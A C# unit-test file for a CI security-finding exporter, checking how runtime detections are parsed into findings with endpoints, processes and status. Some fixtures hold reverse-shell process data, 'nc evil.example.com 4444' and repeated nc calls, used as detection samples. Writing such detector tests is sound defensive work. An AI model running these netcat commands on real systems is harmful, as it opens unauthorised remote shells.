using System.Text;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using StepExport.Core.Checks;
using StepExport.Core.Model;
using StepExport.Testing;
using StepExport.Testing.Checks;
using StepExport.Tests.Normalization;

namespace StepExport.Tests.Checks;

public sealed class FindingFactsTests
{
    private const string Run = "acme/api/16625207256";

    [Fact]
    public void Every_sample_is_a_finding_of_its_run()
    {
        foreach (var file in Directory.EnumerateFiles(RepositoryRoot.Combine("config", "samples"), "*.json"))
        {
            var sample = JsonNode.Parse(File.ReadAllText(file))!;
            var finding = Read(sample.ToJsonString());
            Assert.NotNull(finding);
            Assert.Equal((string)sample["run_id"]!, finding.Check.RunId);
            Assert.EndsWith(((string)sample["repo"]!).Split('/')[^1], finding.Check.Repository, StringComparison.Ordinal);
            Assert.Equal((string)sample["id"]!, finding.Type);
            Assert.Equal((string?)sample["workflow_path"] ?? "", finding.Workflow);
            Assert.Equal((string?)(sample["job"] ?? sample["job_name"]), finding.Job);
            Assert.NotEmpty(finding.Title);
            Assert.Equal(FindingStatus.New, finding.Status);
        }
    }

    [Fact]
    public void A_call_is_told_with_endpoint_process_link_and_time()
    {
        var finding = Read(Detection("Suspicious-Network-Call", """
            "endpoint":"Paste.example.org:443","tool":{"name":"curl","parent":{"name":"bash"}},"html_url":"https://app.stepsecurity.io/x"
            """), sequence: 7, appendedAtMs: 9)!;

        Assert.Equal(CheckKey.TryParse(Run), finding.Check);
        Assert.Equal(new CalledEndpoint("paste.example.org", 443), finding.Endpoint);
        Assert.Empty(finding.MoreEndpoints);
        Assert.Equal("curl (started by bash)", finding.Process);
        Assert.Equal("https://app.stepsecurity.io/x", finding.Url);
        Assert.Equal("Suspicious outbound call: paste.example.org", finding.Title);
        Assert.Equal((Severity.High, "build", ".github/workflows/ci.yml"), (finding.Severity, finding.Job, finding.Workflow));
        Assert.Equal(DateTimeOffset.FromUnixTimeSeconds(1753204032), finding.At);
        Assert.Equal(new JournalPosition(7, 9), finding.Position);
        Assert.Equal(2004, (int)JsonNode.Parse(finding.Record.Span)!["class_uid"]!);
    }

    [Theory]
    [InlineData("Domain-Blocked", "\"endpoint\":\"evil.example.\"", "evil.example", null, null)]
    [InlineData("New-Outbound-Network-Call", "\"endpoint\":\"[2001:db8::1]:443\"", "2001:db8::1", 443, null)]
    [InlineData("New-Outbound-Network-Call", "\"endpoint\":\"no endpoint!\"", "no endpoint!", null, null)]
    [InlineData("HTTPS-Outbound-Network-Call", "\"host\":\"api.github.com\",\"method\":\"POST\",\"path\":\"/x\"", "api.github.com", 443, null)]
    [InlineData("Reverse-Shell", "\"process_events\":[{\"pid\":\"1\",\"exe\":\"/bin/nc\",\"arguments\":[\"nc\",\"evil.example.com\",\"4444\"]}]", "evil.example.com", 4444, "nc evil.example.com 4444")]
    [InlineData("Runner-Worker-Memory-Read", "\"process_events\":[{\"pid\":\"1\",\"exe\":\"/bin/cat\"}]", null, null, "cat")]
    [InlineData("Source-Code-Overwritten", "\"file\":\"src/a.c\"", null, null, null)]
    public void Endpoint_and_process_of_the_types(string type, string facts, string? host, int? port, string? process)
    {
        var finding = Read(Detection(type, facts))!;
        Assert.Equal(host is null ? null : new CalledEndpoint(host, port), finding.Endpoint);
        Assert.Equal(process, finding.Process);
    }

    [Fact]
    public void No_endpoint_hides_behind_another()
    {
        var beside = Read(Detection("New-Outbound-Network-Call", "\"endpoint\":\"ghcr.io:443\",\"direct_ip_address\":\"203.0.113.9\""))!;
        Assert.Equal([new("ghcr.io", 443), new("203.0.113.9", 443)], All(beside));
        var behind = Read(Detection("New-Outbound-Network-Call", "\"endpoint\":\"10.0.0.1:443\",\"direct_ip_address\":\"203.0.113.9\""))!;
        Assert.Equal([new("10.0.0.1", 443), new("203.0.113.9", null)], All(behind));
        var same = Read(Detection("New-Outbound-Network-Call", "\"endpoint\":\"10.0.0.1:443\",\"direct_ip_address\":\"10.0.0.1\""))!;
        Assert.Equal([new("10.0.0.1", 443)], All(same));
    }

    [Fact]
    public void Of_very_many_endpoints_the_rest_is_expected_by_nobody()
    {
        var events = string.Join(',', Enumerable.Range(0, 50).Select(n => $$"""{"pid":"{{n + 1}}","exe":"/bin/nc","arguments":["nc","10.0.0.{{n}}","443"]}"""));
        var finding = Read(Detection("Reverse-Shell", $"\"process_events\":[{events}]"))!;

        Assert.Equal(FindingFacts.MostEndpoints + 1, finding.MoreEndpoints.Count);
        Assert.Equal(new("and 17 more", null), finding.MoreEndpoints[^1]);
        var rules = new CheckRules(["*"], null, [ExpectedEndpoint.TryParse("10.0.0.0/8", ["*"])!]);
        Assert.True(rules.Fails(finding));
        Assert.False(rules.Fails(finding with { MoreEndpoints = finding.MoreEndpoints.SkipLast(1).ToList() }));
    }

    [Fact]
    public void Calls_that_the_vendor_gives_one_key_are_two_findings_and_a_state_is_none()
    {
        var one = Read(Detection("Suspicious-Network-Call", "\"endpoint\":\"a.example:443\",\"detection\":\"Suspicious-Network-Call-build\""))!;
        var other = Read(Detection("Suspicious-Network-Call", "\"endpoint\":\"b.example:443\",\"detection\":\"Suspicious-Network-Call-build\""))!;
        var settled = Read(Detection("Suspicious-Network-Call", "\"endpoint\":\"a.example:443\",\"detection\":\"Suspicious-Network-Call-build\",\"is_suppressed\":\"true\""))!;

        Assert.NotEqual(one.Uid, other.Uid);
        Assert.Equal((one.Uid, FindingStatus.Suppressed), (settled.Uid, settled.Status));
    }

    [Fact]
    public void Processes_without_a_key_are_told_apart_and_with_one_are_not()
    {
        string Uid(string exe, string key) => Read(Detection("Runner-Worker-Memory-Read", $$"""{{key}}"process_events":[{"pid":"1","exe":"{{exe}}"}]"""))!.Uid;

        Assert.NotEqual(Uid("/bin/cat", ""), Uid("/bin/dd", ""));
        Assert.Equal(Uid("/bin/cat", "\"detection\":\"k\","), Uid("/bin/dd", "\"detection\":\"k\","));
    }

    [Theory]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/acme/api/runs/1"}}""", true)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"log_provider":"StepExport","correlation_uid":"github/acme/api/runs/1"}}""", false)]
    [InlineData("""{"class_uid":2003,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/acme/api/runs/1"}}""", false)]
    [InlineData("""{"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/acme/api/runs/1"}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{},"metadata":{"correlation_uid":"github/acme/api/runs/1"}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"gitlab/acme/api/runs/1"}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/api/runs/1"}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/acme/api/runs/x"}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/runs/1"}}""", false)]
    [InlineData("""{"class_uid":2004,"finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/acme/api/runs/1"}""", false)]
    [InlineData("[]", false)]
    [InlineData("", false)]
    public void Only_findings_of_a_run_that_others_made_count(string body, bool counts) =>
        Assert.Equal(counts, FindingFacts.Read(JournalRecords.WithBody(body)) is not null);

    [Fact]
    public void Half_a_character_and_a_NUL_are_no_reason_to_overlook_a_finding()
    {
        var finding = FindingFacts.Read(JournalRecords.WithBody(
            """{"class_uid":2004,"message":"a\u0000b \ud800","finding_info":{"uid":"u"},"metadata":{"correlation_uid":"github/acme/api/runs/1"},"unmapped":{"x":[[{"y":1}]]}}"""))!;
        Assert.StartsWith("a", finding.Title, StringComparison.Ordinal);
        Assert.DoesNotContain('\0', finding.Title);
    }

    [Fact]
    public void Deep_nesting_is_no_way_to_be_overlooked()
    {
        var deep = string.Concat(Enumerable.Repeat("[", 200)) + string.Concat(Enumerable.Repeat("]", 200));
        Assert.NotNull(FindingFacts.Read(JournalRecords.WithBody(
            $$$"""{"class_uid":2004,"finding_info":{"uid":"u"},"unmapped":{"x":{{{deep}}}},"metadata":{"correlation_uid":"github/acme/api/runs/1"}}""")));
    }

    [Fact]
    public void Long_texts_are_cut_between_characters_and_long_uids_stay_different()
    {
        var smile = "\U0001F600";
        var text = new string('x', FindingFacts.LongestText - 1) + smile + "y";
        var finding = Read(Detection("Agent-Tampered", $"\"detection\":\"{new string('k', 5000)}1\",\"job_name\":\"{text}\"").Replace("\"job\":\"build\",", "", StringComparison.Ordinal))!;
        var other = Read(Detection("Agent-Tampered", $"\"detection\":\"{new string('k', 5000)}2\""))!;

        Assert.Equal(new string('x', FindingFacts.LongestText - 1), finding.Job);
        Assert.NotEqual(finding.Uid, other.Uid);
        Assert.InRange(finding.Uid.Length, 1, FindingFacts.LongestUid);
    }

    [Fact]
    public void Whatever_is_detected_is_read() => Prop.ForAll(ArbitraryDetections.Generator.ToArbitrary(), detection =>
    {
        var node = Normalized.Event(detection);
        var finding = FindingFacts.Read(JournalRecords.Of(detection));
        var correlation = Stored(node["metadata"]!["correlation_uid"]);
        if (correlation is null) return finding is null;
        if (finding is null) return CheckKey.TryParse(correlation["github/".Length..].Replace("/runs/", "/", StringComparison.Ordinal)) is null;
        var endpoints = node["evidences"]?.AsArray().Select(e => e!["dst_endpoint"]).Where(e => e is not null).SelectMany(e => new[] { e!["hostname"], e["ip"], e["name"] }).Where(h => h is not null);
        return $"github/{finding.Check.Repository}/runs/{finding.Check.RunId}" == correlation
            && finding.Uid.StartsWith(Stored(node["finding_info"]!["uid"])!, StringComparison.Ordinal)
            && (endpoints is null || endpoints.All(h => All(finding).Any(e => e.Host.Equals(Stored(h), StringComparison.OrdinalIgnoreCase))));
    }).QuickCheckThrowOnFailure();

    [Fact]
    public void Whatever_is_in_a_record_is_no_error() => Prop.ForAll(ArbitraryDetections.Generator.ToArbitrary(), Gen.Choose(0, int.MaxValue).ToArbitrary(), (detection, seed) =>
    {
        var bytes = JournalRecords.Of(detection).Body.ToArray();
        var random = new Random(seed);
        for (var i = 0; i < 3; i++) bytes[random.Next(bytes.Length)] = (byte)"{}[]\",:\\0\xff"[random.Next(10)];
        FindingFacts.Read(JournalRecords.WithBody(Encoding.Latin1.GetString(bytes)));
        return true;
    }).QuickCheckThrowOnFailure();

    private static string? Stored(JsonNode? text) => ((string?)text)?.Replace('\0', '\uFFFD');

    private static IEnumerable<CalledEndpoint> All(CheckFinding finding) => finding.Endpoint is { } first ? finding.MoreEndpoints.Prepend(first) : [];

    private static CheckFinding? Read(string detection, long sequence = 1, long appendedAtMs = 1) => FindingFacts.Read(JournalRecords.Of(detection, sequence, appendedAtMs));

    private static string Detection(string type, string facts) =>
        $$"""{"id":"{{type}}","owner":"acme","repo":"api","run_id":"16625207256","job_id":"1","job":"build","workflow_path":".github/workflows/ci.yml","timestamp":"1753204032",{{facts}}}""";
}
